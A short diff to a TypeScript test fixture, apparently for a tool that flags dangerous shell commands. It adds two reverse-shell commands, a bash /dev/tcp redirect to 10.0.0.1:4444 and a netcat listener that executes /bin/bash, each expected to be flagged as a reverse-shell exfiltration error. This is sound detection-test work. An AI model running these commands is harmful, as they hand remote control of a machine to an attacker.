@@ -308,6 +308,12 @@ const FAKE_ANALYSIS: Record<string, { findings: Finding[]; hosts?: string[] }> =
     hosts: ['rails_env=production'],
   },
   'npx prisma migrate status': { findings: [] },
+  'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1': {
+    findings: [finding('reverse-shell', 'exfiltration', { severity: 'error' })],
+  },
+  'nc -lvnp 4444 -e /bin/bash': {
+    findings: [finding('reverse-shell', 'exfiltration', { severity: 'error' })],
+  },
 };
 
 function fakeJudge(set: PolicySet): PolicyJudge {
